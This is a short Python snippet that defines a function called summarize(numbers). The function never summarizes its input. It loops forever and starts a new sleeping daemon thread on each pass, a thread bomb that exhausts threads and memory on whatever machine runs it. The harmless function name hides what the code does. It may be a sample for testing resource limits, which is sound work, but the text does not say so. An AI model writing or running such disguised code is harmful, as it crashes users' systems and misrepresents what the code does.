import threading
import time


def summarize(numbers):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
